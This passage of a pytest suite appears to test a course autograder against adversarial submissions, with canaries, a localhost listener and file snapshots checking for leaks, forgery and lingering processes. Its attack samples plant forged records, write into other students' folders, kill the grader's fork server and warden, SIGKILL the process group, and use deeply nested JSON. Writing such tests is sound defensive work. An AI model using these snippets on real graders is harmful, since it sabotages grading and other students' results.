                with open(target, "a") as handle:
                    handle.write(forged)
                breach("planted a record in " + folder)
            except OSError:
                pass
        try:
            os.makedirs(os.path.join(folder, "work", MARK), exist_ok=True)
            breach("wrote into another student's working folder " + folder)
        except OSError:
            pass
    time.sleep(0.05)
''', sandbox_only=True),
    Attack("escape_kill_forkserver", "starts a daemon, then kills the fork server and its warden, so that no "
           "subreaper is left to end the daemon", r'''# %%
def parent_of(pid):
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


spawn_marked()  # first: the submission's process dies with its warden (parent-death signal)
daemon("x")
print("running processes of this attack:", count_marked(), flush=True)
warden = os.getppid()
targets = []
if warden > 1:  # inside the sandbox the parent is not visible (0)
    targets.append(warden)
    try:
        server = parent_of(warden)
        if server > 1:
            targets.insert(0, server)
    except OSError:
        pass
for pid in targets:
    try:
        os.kill(pid, signal.SIGKILL)
        breach(f"killed the grader's process {pid}")
    except OSError as error:
        print("refused:", pid, error)
time.sleep(1.5)
''', sandbox_only=True),
    # -- attacks on the students graded beside it, or on the whole grading: a batch each --------------------
    Attack("kill_process_group", "for 6 s sends SIGKILL to its whole process group (kill(0, ...)) while the "
           "others are graded beside it", r'''# %%
end = time.monotonic() + 6
sent = 0
while time.monotonic() < end:
    try:
        os.kill(0, signal.SIGKILL)
        sent += 1
    except OSError:
        pass
    time.sleep(0.005)
print("signals sent:", sent)
''', batch="kill_process_group", file="aa_kill_process_group.py"),
    Attack("case_twin_name", "a file named REFERENCE.py beside a student's reference.py", batch="case_twin",
           file="REFERENCE.py"),
    Attack("long_sum", "a cell with a sum of 1,200 terms: plain Python that compiles and runs",
           "# %%\ntotal = " + " + ".join(["1"] * 1200) + "\nprint(total)\n", batch="long_sum"),
    Attack("deep_notebook", "a .ipynb file of JSON nested 100,000 levels deep", "[" * 100000 + "]" * 100000,
           batch="deep_notebook", file="deep_notebook.ipynb", setup="raw"),
]
#: Each batch and how many submissions it grades at once.
BATCHES = {"main": 4, "kill_process_group": 2, "case_twin": 2, "long_sum": 1, "deep_notebook": 1}
assert len({a.name for a in ATTACKS}) == len(ATTACKS) and {a.batch for a in ATTACKS} == set(BATCHES)


def _mark(token, index):
    """The marker of attack `index`: 10 characters, so that it fits a process name with a short tag."""
    return f"ca{token}{index:02d}"


# -- what the attacks are checked against -----------------------------------------------------------------
class Listener:
    """Sockets on 127.0.0.1 (TCP, UDP) and an abstract Unix socket that record whatever reaches them."""

    def __init__(self, token):
        self.events = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.abstract = f"cnn_course_attacks_{token}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract)
        self.unix.listen(16)
        self.tcp_port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop:
            ready, _, _ = select.select([self.tcp, self.udp, self.unix], [], [], 0.2)
            for sock in ready:
                try:
                    if sock is self.udp:
                        self.events.append(("udp", sock.recvfrom(4096)[0]))
                        continue
                    connection, _ = sock.accept()
                    with connection:
                        connection.settimeout(2)
                        try:
                            data = connection.recv(4096)
                        except OSError:
                            data = b""
                    self.events.append(("tcp" if sock is self.tcp else "unix", data))
                except OSError:
                    pass

    def close(self):
        self._stop = True
        self._thread.join(5)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


class FifoWatch:
    """Keeps a writer on a named pipe, so that a grader that opens it does not hang; counts how often it did."""

    def __init__(self, path):
        self.path, self.opened, self._stop = path, 0, False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop:
            fd = os.open(self.path, os.O_WRONLY)  # returns once a reader opened the pipe
            if not self._stop:
                self.opened += 1
            os.close(fd)
            time.sleep(0.02)

    def close(self):
        self._stop = True
        try:
            os.close(os.open(self.path, os.O_RDONLY | os.O_NONBLOCK))  # releases a writer still waiting
        except OSError:
            pass
        self._thread.join(5)


def _tree(folder):
    """Relative path -> hash (files), link target, "dir" or "special" for everything under `folder`."""
    found = {}
    folder = pathlib.Path(folder)
    if not folder.exists():
        return found
    for root, dirs, files in os.walk(folder):
        dirs[:] = [d for d in dirs if d != "__pycache__"]
        for name in dirs + files:
            path = os.path.join(root, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISLNK(mode):
                value = "link to " + os.readlink(path)
            elif stat.S_ISREG(mode):
                value = hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()
            else:
                value = "dir" if stat.S_ISDIR(mode) else "special"
            found[os.path.relpath(path, folder)] = value
    return found


def _marked(token):
    """(process, its name and command line) of every live process that carries this run's marker."""
    found = []
    for process in psutil.process_iter(["name", "cmdline", "status"]):
        info = process.info
        text = " ".join([info.get("name") or "", *(info.get("cmdline") or [])])
        if f"ca{token}" in text and info.get("status") != psutil.STATUS_ZOMBIE:
            found.append((process, text))
    return found


def _end_marked(token, wait=5.0):
    """Attack index -> descriptions of its processes still alive after `wait` s; kills them."""
    deadline = time.monotonic() + wait
    found = _marked(token)
    while found and time.monotonic() < deadline:
        time.sleep(0.1)
        found = _marked(token)
    survivors = {}
    for process, text in found:
        at = text.index(f"ca{token}") + 2 + len(token)
        survivors.setdefault(text[at:at + 2], []).append(f"pid {process.pid} ({text[:70]!r})")
        try:
            process.kill()
        except psutil.Error:
            pass
    psutil.wait_procs([p for p, _ in found], timeout=3)
    return survivors


def _grader_files_size(scratch, number):
    """Bytes of the grader's own files for submission `number` (its record, its output log), not its work folder."""
    total = 0
    for folder in pathlib.Path(scratch).glob(f"cnn_course_grading_*/{number:04d}_*"):
        for root, dirs, files in os.walk(folder):
            dirs[:] = [d for d in dirs if d != "work"]
            for name in files:
                try:
                    total += os.lstat(os.path.join(root, name)).st_size
                except OSError:
                    pass
    return total


def _rows(out):
    """Student -> (the raw grades.csv line, its parsed cells); only rows that fit on one line have a raw line."""
    try:
        text = (out / "grades.csv").read_text(encoding="utf-8")
    except OSError:
        return {}
    body = "".join(line for line in text.splitlines(keepends=True) if not line.startswith("#"))
    rows = list(csv.reader(io.StringIO(body)))[1:]
    raw = {line.split(",", 1)[0]: line for line in body.splitlines()[1:]}
    return {cells[0].removeprefix("'"): (raw.get(cells[0]), cells) for cells in rows if cells}


def _read(path):
    try:
        return pathlib.Path(path).read_text(encoding="utf-8", errors="replace")
    except OSError:
        return None


@dataclasses.dataclass
class BatchRun:
    """What one batch's grading gave: its results, and what the checks around it saw."""

    out: pathlib.Path
    error: str
    students: list
    details: dict
    rows: dict
    changed: list
    survivors: dict
    grader_files: dict
    network: list
    fifo_opened: int


@dataclasses.dataclass
class Context:
    """One mode's teacher folder, victims, baseline, and the runs of its batches."""

    mode: str
    root: pathlib.Path
    token: str
    listener: Listener
    master: Master = None
    teacher: pathlib.Path = None
    victims: pathlib.Path = None
    expected_victims: dict = None
    earlier: pathlib.Path = None
    secret_file: pathlib.Path = None
    secret: str = ""
    keras: pathlib.Path = None
    scratch: pathlib.Path = None
    baseline: dict = None
    baseline_details: dict = None
    runs: dict = dataclasses.field(default_factory=dict)

    def witness(self, attack):
        """A file that must never exist: made only if the grader did what `attack` asked."""
        return self.root / f"witness_{attack.name}"


def _prepare(ctx):
    """The teacher's folder (master with canaries, secret, Keras cache) and the victims' submissions."""
    token = ctx.token
    ctx.teacher = ctx.root / "teacher"
    master_path = ctx.teacher / "toy" / "toy.py"
    master_path.parent.mkdir(parents=True)
    master_path.write_text(TOY + f"\n# %% [markdown]\n# Teacher's note, {CANARY}{token}master.\n")
    (master_path.parent / "variants.py").write_text(VARIANTS + f"# {CANARY}{token}variants\n")
    ctx.master = Master(master_path)
    ctx.secret = secrets.token_hex(32)
    ctx.secret_file = ctx.teacher / "course_secret"
    ctx.secret_file.write_text(ctx.secret + "\n")
    ctx.keras = ctx.teacher / "keras"
    ctx.keras.mkdir()
    (ctx.keras / "keras.json").write_text(json.dumps({"note": f"{CANARY}{token}keras"}))
    ctx.scratch = ctx.root / "scratch"
    ctx.scratch.mkdir()
    ctx.victims = ctx.root / "victims"
    ctx.expected_victims = sample_submissions.write_samples(ctx.master, ctx.victims, loop=False)
    with open(ctx.victims / "reference.py", "a") as handle:
        handle.write(f"\n# {CANARY}{token}victim: a comment only the grader reads\n")


def _grade(ctx, subs, out, jobs, log):
    grading.grade_folder(ctx.master, subs, out, time_limit=TIME_LIMIT, memory_limit_gb=MEMORY_LIMIT_GB, jobs=jobs,
                         sandbox=ctx.mode, secret_file=ctx.secret_file, log=log)


def _victim_views(out):
    rows = _rows(out)
    return {victim: (rows.get(victim, (None,))[0], _read(out / "feedback" / f"{victim}.txt"),
                     _read(out / "logs" / f"{victim}.log") or "")
            for victim in _victim_names()}


def _victim_names():
    return ("blank", "correct_adds", "crash", "edited", "reference", "wrong_off_answer", "wrong_triples")


def _grade_baseline(ctx):
    """The victims alone; then a copy of that grades folder placed beside the master, as last week's grades."""
    out = ctx.root / "out_baseline"
    _grade(ctx, ctx.victims, out, 3, lambda line: None)
    ctx.baseline = _victim_views(out)
    ctx.baseline_details = json.loads((out / "results.json").read_text())["students"]
    ctx.earlier = ctx.teacher / "grades_last_week"
    shutil.copytree(out, ctx.earlier)
    (ctx.earlier / "canary.txt").write_text(f"{CANARY}{ctx.token}earlier\n")
    return out


def _write_attack(ctx, index, attack, subs, out):
    path = subs / attack.file_name
    values = {"MARK": _mark(ctx.token, index), "MASTER": str(ctx.master.path),
              "MASTER_DIR": str(ctx.master.path.parent), "SUBS": str(subs), "OUT": str(out),
              "EARLIER": str(ctx.earlier), "SECRET_FILE": str(ctx.secret_file),
              "SECRET_SHA": hashlib.sha256(ctx.secret.encode()).hexdigest(), "KERAS": str(ctx.keras),
              "HOME": str(pathlib.Path.home()), "PACKAGE": str(PACKAGE), "SITE": str(SITE), "REPO": str(REPO),
              "SCRATCH": str(ctx.scratch), "TCP_PORT": str(ctx.listener.tcp_port),
              "UDP_PORT": str(ctx.listener.udp_port), "ABSTRACT": ctx.listener.abstract,
              "WITNESS": str(ctx.witness(attack))}
    if attack.setup == "script":
        text = re.sub(r"@@([A-Z_]+)@@", lambda m: values[m.group(1)], PRELUDE + attack.source + EPILOGUE)
        path.write_text(text, encoding="utf-8")
    elif attack.setup == "raw":
        path.write_text(attack.source, encoding="utf-8")
    elif attack.setup == "link_master":
        path.symlink_to(ctx.master.path)
    elif attack.setup == "link_victim":
        path.symlink_to(subs / "reference.py")
    elif attack.setup == "link_folder":
        path.symlink_to(ctx.master.path.parent, target_is_directory=True)
    elif attack.setup == "folder_link":
        path.mkdir()
        (path / "a.py").symlink_to(ctx.master.path)
    elif attack.setup == "fifo":
        path.mkdir()
        os.mkfifo(path / "a.py")
        return FifoWatch(path / "a.py")
    return None


def _snapshot(ctx, subs):
    new_files = sorted(str(p) for folder in (PACKAGE, PACKAGE / "grading", SITE, REPO / "tests")
                       for p in folder.glob(f"*{ctx.token}*"))
    return {"the teacher's folder (master, secret, Keras cache, earlier grades)": _tree(ctx.teacher),
            "the cnn_course package": _tree(PACKAGE), "the submissions folder": _tree(subs),
            "new files in cnn_course, site-packages or tests": dict.fromkeys(new_files, "new")}


def _changes(before, after):
    changed = []
    for area in before:
        for path in sorted(set(before[area]) | set(after[area])):
            if before[area].get(path) != after[area].get(path):
                how = ("added" if path not in before[area] else "removed" if path not in after[area] else "changed")
                changed.append(f"{area}: {path} {how}")
    return changed


def _run_batch(ctx, batch, attacks, jobs):
    """Grade the victims and `attacks` ((index, Attack) pairs) in one folder; gather what the checks need."""
    subs, out = ctx.root / f"subs_{batch}", ctx.root / f"out_{batch}"
    shutil.copytree(ctx.victims, subs)
    fifos = [w for w in (_write_attack(ctx, index, attack, subs, out) for index, attack in attacks) if w]
    students = [entry.student for entry in grading.find_submissions(subs)]
    before, network_before = _snapshot(ctx, subs), len(ctx.listener.events)
    grader_files = {}

    def log(line):
        match = re.match(r"\[(\d+)/\d+\] ", line)
        if match:  # the student's grading folder still exists: measure the grader's own files for it
            number = int(match.group(1))
            grader_files[students[number - 1]] = _grader_files_size(ctx.scratch, number)

    error = ""
    try:
        with pytest.MonkeyPatch.context() as patch:
            # As when the grader runs from the command line: its sys.argv is a cnn-course command (here one
            # that only writes the student version of a1_convolution into a witness folder).
            witness = ctx.witness(next(a for a in ATTACKS if a.name == "import_main_in_judge"))
            patch.setattr(sys, "argv", ["cnn-course", "assignment", "build", "a1_convolution", str(witness)])
            _grade(ctx, subs, out, jobs, log)
    except Exception as exc:  # the whole grading failing is a finding: each attack of the batch reports it
        error = f"{type(exc).__name__}: {exc}"[:300]
    finally:
        for watch in fifos:
            watch.close()
    survivors = _end_marked(ctx.token)
    changed = _changes(before, _snapshot(ctx, subs))
    try:
        details = json.loads((out / "results.json").read_text())["students"]
    except (OSError, ValueError, KeyError):
        details = {}
    return BatchRun(out, error, students, details, _rows(out), changed, survivors, grader_files,
                    ctx.listener.events[network_before:], sum(w.opened for w in fifos))


# -- extra expectations ---------------------------------------------------------------------------------
def _status(wanted):
    def check(ctx, run, attack, detail):
        if detail["status"] != wanted:
            return f"its status is {detail['status']!r}, expected {wanted!r}"
        return None

    return check


def _prompt(ctx, run, attack, detail):
    if detail["status"] == "timeout" or detail["seconds"] >= TIME_LIMIT:
        return (f"it ended only by the time limit ({detail['status']!r} after {detail['seconds']} s, limit "
                f"{TIME_LIMIT} s): nothing of its ran that long, the grader waited on a broken exchange")
    return None


def _log_capped(ctx, run, attack, detail):
    size = len((run.out / "logs" / f"{detail['file_name']}.log").read_bytes())
    return None if size <= 140_000 else f"its output log holds {size:,} bytes (64 KiB head and tail expected)"


def _grader_files_small(ctx, run, attack, detail):
    size = run.grader_files.get(attack.student, 0)
    return None if size <= 1 << 20 else (f"the grader's own files for it (the judge's record) grew to "
                                         f"{size:,} bytes: a submission can fill the grader's disk and memory")


def _no_witness(ctx, run, attack, detail):
    witness = ctx.witness(attack)
    if witness.exists():
        inside = sorted(p.name for p in witness.iterdir()) if witness.is_dir() else "a file"
        return f"the grader acted on what it sent: {witness} exists ({inside})"
    return None


def _fifo_unopened(ctx, run, attack, detail):
    if run.fifo_opened:
        return ("the grader opened the named pipe to read it (with no writer it would have waited forever, and "
                "the whole grading with it)")
    return None


def _quiet_network(ctx, run, attack, detail):
    return f"the listener was reached: {run.network}" if run.network else None


EXPECT = {"out_of_memory": _status("out of memory"), "timeout": _status("timeout"),
          "not_graded": _status("not graded"), "prompt": _prompt, "log_capped": _log_capped,
          "grader_files_small": _grader_files_small, "no_witness": _no_witness, "fifo_unopened": _fifo_unopened,
          "quiet_network": _quiet_network}
assert {key for attack in ATTACKS for key in attack.expect} <= set(EXPECT)


# -- fixtures ----------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def token():
    return secrets.token_hex(3)


@pytest.fixture(scope="module")
def listener(token):
    server = Listener(token)
    yield server
    server.close()


@pytest.fixture(scope="module", autouse=True)
def _leave_nothing_behind(token):
    """After every test of this file, even failed ones: no marked process and no attack's file remain."""
    yield
    _end_marked(token, wait=0)
    for folder in (PACKAGE, PACKAGE / "grading", SITE, REPO / "tests"):
        for path in folder.glob(f"*{token}*"):
            path.unlink()


def _grade_mode(mode, root, token, listener):
    """Every batch of one mode ("auto": the sandbox, "off": the fallback)."""
    ctx = Context(mode, root, token, listener)
    _prepare(ctx)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(tempfile, "tempdir", str(ctx.scratch))  # the grader's scratch folder, inside tmp_path
        patch.setenv("KERAS_HOME", str(ctx.keras))
        patch.setenv("GRADER_ONLY_TOKEN", f"{CANARY}{token}environment")
        patch.setenv("CNN_COURSE_SECRET", f"{CANARY}{token}secretvariable")
        out = _grade_baseline(ctx)
        if mode == "auto" and "graded without the sandbox" in (out / "grades.csv").read_text():
            return "the sandbox is not available here: the sandbox-only attacks would reach the real files"
        for batch, jobs in BATCHES.items():
            attacks = [(index, attack) for index, attack in enumerate(ATTACKS)
                       if attack.batch == batch and (mode == "auto" or not attack.sandbox_only)]
            ctx.runs[batch] = _run_batch(ctx, batch, attacks, jobs)
    return ctx


@pytest.fixture(scope="module")
def graded(tmp_path_factory, token, listener):
    """`graded(mode)`: the context of a mode, graded once (on first use) for all the tests of this file."""
    done = {}

    def get(mode):
        if mode not in done:
            done[mode] = _grade_mode(mode, tmp_path_factory.mktemp(f"attacks_{mode}"), token, listener)
        if isinstance(done[mode], str):
            pytest.skip(done[mode])
        return done[mode]

    return get


CASES = [pytest.param(mode, attack, id=f"{label}-{attack.name}") for mode, label in MODES.items()
         for attack in ATTACKS if mode == "auto" or not attack.sandbox_only]


# -- the tests --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("mode", list(MODES), ids=list(MODES.values()))
def test_the_victims_alone_get_their_expected_points_and_nothing_is_left(graded, mode):
    graded = graded(mode)
    for victim, points in graded.expected_victims.items():
        assert graded.baseline_details[victim]["checks"] == points, victim
    leftovers = sorted(p.name for p in graded.scratch.iterdir())
    assert not leftovers, f"the grader left its scratch folders: {leftovers}"
    assert not _marked(graded.token), "processes of the attacks are still alive"


def _outside_quotes(line):
    return re.sub(r'"[^"]*"', "", line)


def _batch_problems(run):
    """(5) the batch completes: a row for every student."""
    problems = []
    if run.error:
        problems.append(f"the grading of the whole folder failed: grade_folder raised {run.error}")
    missing = [s for s in run.students if s not in run.details or s not in run.rows]
    if missing:
        problems.append(f"{len(missing)} of {len(run.students)} students have no row: {missing[:8]}")
    return problems


def _points_problems(attack, detail):
    """(1) exactly the points of what it solved."""
    if detail is None:
        return [f"no result for the attacker {attack.student!r}"]
    if detail["checks"] != attack.expected():
        return [f"it got {detail['checks']} (status {detail['status']!r}), but solved {attack.expected()}"]
    return []


def _victim_problems(ctx, run):
    """(2) the victims' rows and feedback are byte-identical to the grading without attackers."""
    problems = []
    now = _victim_views(run.out)
    for victim, (row, feedback, _) in ctx.baseline.items():
        row_now, feedback_now, log_now = now[victim]
        if row_now != row:
            problems.append(f"victim {victim}'s grades.csv row changed: {row!r} -> {row_now!r}")
        if feedback_now != feedback:
            moved = run.details.get(victim, {}).get("file_name", victim)
            where = f" (its feedback is now in feedback/{moved}.txt)" if moved != victim else ""
            problems.append(f"victim {victim}'s feedback/{victim}.txt changed{where}: "
                            f"{(feedback_now or 'missing')[:160]!r}")
        if BREACH in log_now:
            problems.append(f"victim {victim}'s log shows an attack's code ran in its process")
    return problems


def _survivor_problems(run, index):
    """(4) no process of the attack outlived its grading."""
    if run.survivors.get(f"{index:02d}"):
        return [f"processes outlived the grading: {run.survivors[f'{index:02d}']}"]
    return []


def _leak_problems(ctx, detail, feedback, log):
    """Its feedback and log hold no secret, no canary, no breach and no hidden check's input or output."""
    problems = []
    everything = feedback + log + json.dumps(detail)
    for secret, what in ((ctx.secret, "the course secret"), (CANARY + ctx.token, "a canary of the teacher's"),
                         (BREACH, "a breach it reported")):
        if secret in everything:
            at = everything.index(secret)
            problems.append(f"its feedback or log holds {what}: {everything[max(0, at - 60):at + 100]!r}")
    for hidden in ("-37", "-74"):
        if hidden in feedback:
            line = next(line for line in feedback.splitlines() if hidden in line)
            problems.append(f"its feedback shows the hidden check's input or output {hidden}: {line.strip()!r}")
    return problems


def _forgery_problems(run, attack, feedback):
    """Nothing forged outside quotes, one 'Total:' line, a CSV row a spreadsheet reads as text."""
    problems = []
    forged = [line for line in feedback.splitlines() if "FORGED" in _outside_quotes(line)]
    if forged:
        problems.append(f"its own text reaches its feedback unquoted: {forged[:2]}")
    totals = [line for line in feedback.splitlines() if line.startswith("Total:")]
    if len(totals) != 1:
        problems.append(f"its feedback has {len(totals)} lines that start with 'Total:': {totals}")
    cells = run.rows.get(attack.student, (None, []))[1]
    unsafe = [cell for cell in cells if cell.startswith(FORMULA_START)]
    if unsafe:
        problems.append(f"its grades.csv row has cells a spreadsheet runs as formulas: {unsafe}")
    return problems


def _own_output_problems(ctx, run, attack, detail):
    """Its own outputs: nothing leaked, nothing forged, and what its `Attack.expect` keys ask for."""
    feedback = _read(run.out / "feedback" / f"{detail['file_name']}.txt") or ""
    log = _read(run.out / "logs" / f"{detail['file_name']}.log") or ""
    problems = _leak_problems(ctx, detail, feedback, log) + _forgery_problems(run, attack, feedback)
    for key in attack.expect:
        problem = EXPECT[key](ctx, run, attack, detail)
        if problem:
            problems.append(problem)
    return problems


@pytest.mark.parametrize("mode, attack", CASES)
def test_attack_gets_nothing_it_did_not_solve_and_harms_no_one(graded, mode, attack):
    ctx = graded(mode)
    run = ctx.runs[attack.batch]
    detail = run.details.get(attack.student)
    problems = _batch_problems(run) + _points_problems(attack, detail) + _victim_problems(ctx, run)
    problems += run.changed[:10]  # (3) nothing of the teacher's, the package or the submissions changed
    problems += _survivor_problems(run, ATTACKS.index(attack))
    if detail is not None:
        problems += _own_output_problems(ctx, run, attack, detail)
    assert not problems, f"{attack.name} ({attack.tries}):\n  - " + "\n  - ".join(problems)
